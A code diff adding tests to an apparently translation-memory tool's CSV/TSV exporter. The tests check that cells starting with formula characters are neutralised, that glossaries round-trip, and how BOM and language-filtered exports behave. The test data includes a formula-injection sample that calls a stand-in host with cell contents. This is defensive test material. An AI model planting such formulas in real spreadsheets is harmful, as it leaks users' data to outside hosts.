@@ -406,6 +406,91 @@ def test_tsv_and_csv_exports(tm: TM, tmp_path: Path) -> None:
     assert rows[0] == ["doc", "unit", "en", "ru", "kk"] and len(rows) == tsv.units + 1
 
 
+def test_spreadsheet_cells_that_would_run_as_formulas_are_neutralised(tm: TM, tmp_path: Path) -> None:
+    import csv
+
+    risky = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1 (555) 0100", "-5 degrees", "@SUM(A1:A9)",
+             "'=already quoted", "Plain text, = inside."]
+    units = [UnitData({"en": VariantData(text), "ru": VariantData(f"Перевод {i}.")}) for i, text in enumerate(risky)]
+    tm.import_documents([(DocumentData(id="risky"), ["en", "ru"], units)])
+    export_table(tm, tmp_path / "safe.csv", "csv")
+    with (tmp_path / "safe.csv").open(encoding="utf-8", newline="") as fh:
+        cells = [row[2] for row in csv.reader(fh)][1:]
+    assert cells == ["'" + t for t in risky[:5]] + [risky[5]]
+    export_table(tm, tmp_path / "safe.tsv", "tsv")
+    tsv = [line.split("\t")[2] for line in (tmp_path / "safe.tsv").read_text(encoding="utf-8").splitlines()[1:]]
+    assert tsv == cells
+    export_table(tm, tmp_path / "raw.csv", "csv", raw_formulas=True)
+    with (tmp_path / "raw.csv").open(encoding="utf-8", newline="") as fh:
+        assert [row[2] for row in csv.reader(fh)][1:] == risky
+
+
+def test_neutralising_is_undone_on_reading_a_glossary(tmp_path: Path) -> None:
+    from tm.formats.spreadsheet import neutralise, restore
+    from tm.glossary.formats import read_file, write_file
+    from tm.glossary.records import ConceptData, ConceptType, Status, TermData
+
+    texts = ["=cmd", "+7", "-ов", "@home", "'=odd", "''+odder", "'s-Hertogenbosch", "plain"]
+    assert [restore(neutralise(t)) for t in texts] == texts
+    assert neutralise("'s-Hertogenbosch") == "'s-Hertogenbosch" and neutralise("-ов") == "'-ов"
+    concepts = [ConceptData(id=f"c{i}", type=ConceptType.term, terms=(TermData("en", t, Status.preferred, None),))
+                for i, t in enumerate(texts)]
+    for name in ("g.csv", "g.tsv"):
+        write_file(concepts, tmp_path / name)
+        assert "\n'=cmd" not in (tmp_path / name).read_text(encoding="utf-8")
+        assert [t.text for c in read_file(tmp_path / name) for t in c.terms] == texts
+
+
+def test_a_bom_for_excel(tm: TM, tmp_path: Path) -> None:
+    tm.import_documents([(DocumentData(id="d"), ["en", "ru"], [UnitData({"en": VariantData("A."),
+                                                                          "ru": VariantData("Б.")})])])
+    export_table(tm, tmp_path / "bom.csv", "csv", bom=True)
+    export_table(tm, tmp_path / "plain.csv", "csv")
+    assert (tmp_path / "bom.csv").read_bytes() == b"\xef\xbb\xbf" + (tmp_path / "plain.csv").read_bytes()
+    assert (tmp_path / "plain.csv").read_bytes().startswith(b"doc,unit,en,ru\r\n")
+
+
+def _one_language_letters(tm: TM) -> None:
+    both = [UnitData({"en": VariantData(f"Both {i}."), "ru": VariantData(f"Оба {i}.")}) for i in range(4)]
+    tm.import_documents([
+        (DocumentData(id="bilingual"), ["en", "ru"], both + [UnitData({"en": VariantData("Only English.")})]),
+        (DocumentData(id="english"), ["en"], [UnitData({"en": VariantData(f"English {i}.")}) for i in range(3)]),
+        (DocumentData(id="russian"), ["ru"], [UnitData({"ru": VariantData("Только по-русски.")})]),
+    ])
+
+
+def test_an_export_for_named_languages_holds_only_units_that_have_them_all(tm: TM, tmp_path: Path) -> None:
+    _one_language_letters(tm)
+    result = export_tmx(tm, tmp_path / "en-ru.tmx", langs=["en", "ru"])
+    tree = parse(tmp_path / "en-ru.tmx")
+    assert result.units == len(tree.findall("body/tu")) == 4 and result.left_out == 5
+    assert {tuple(t.get(XML_LANG) for t in tu.findall("tuv")) for tu in tree.findall("body/tu")} == {("en", "ru")}
+    assert result.warnings == ["left out 5 units that lack a text in a language asked for (en, ru); "
+                               "units lacking each: ru 4, en 1"]
+    table = export_table(tm, tmp_path / "en-ru.tsv", "tsv", langs=["en", "ru"])
+    assert table.units == 4 and table.left_out == 5
+    everything = export_tmx(tm, tmp_path / "all.tmx")  # without --langs: every unit, as it is
+    assert everything.units == 9 and everything.left_out == 0 and not everything.warnings
+    with pytest.raises(InputError, match="a TMX file pairs languages"):
+        export_tmx(tm, tmp_path / "en.tmx", langs=["en"])
+    assert not (tmp_path / "en.tmx").exists()
+    assert export_table(tm, tmp_path / "en.tsv", "tsv", langs=["en"]).units == 8  # a list of one language's texts
+
+
+def test_cli_says_how_many_units_were_left_out(run, tm: TM, tmp_path: Path) -> None:
+    _one_language_letters(tm)
+    result = run("export", "tmx", str(tmp_path / "x.tmx"), "--langs", "en,ru", "--json")
+    assert result.exit_code == 0, result.output
+    data = json.loads(result.stdout)
+    assert data["units"] == 4 and data["left_out"] == 5
+    assert "left out 5 units" in result.stderr
+    one = run("export", "tmx", str(tmp_path / "en.tmx"), "--langs", "en")
+    assert one.exit_code == 2 and one.stderr.count("\n") == 1 and "tm export tsv" in one.stderr
+    csv_result = run("export", "csv", str(tmp_path / "x.csv"), "--langs", "en,ru", "--bom", "--json")
+    assert json.loads(csv_result.stdout)["left_out"] == 5 and "left out 5 units" in csv_result.stderr
+    assert (tmp_path / "x.csv").read_bytes().startswith(b"\xef\xbb\xbfdoc,unit,en,ru")
+
+
 # -- command line --------------------------------------------------------------------------
 
 def test_cli_export_and_import(reader: str, run, tmp_path: Path) -> None:
